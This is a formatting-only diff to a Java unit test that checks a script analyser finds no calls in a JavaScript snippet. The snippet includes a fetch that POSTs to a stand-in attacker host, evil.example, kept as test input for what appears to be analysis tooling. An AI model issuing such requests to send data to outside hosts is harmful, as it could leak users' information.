@@ -58,7 +58,8 @@ class ScriptsTest {
 
     @Test
     void whatOnlyReadsAndWhatLeadsAwayIsNoCall() {
-        assertThat(calls("fetch('/api/config').then(({name}) => show(name)); fetch('//evil.example/x',{method:'POST'})"))
+        assertThat(calls(
+                        "fetch('/api/config').then(({name}) => show(name)); fetch('//evil.example/x',{method:'POST'})"))
                 .isEmpty();
     }
 
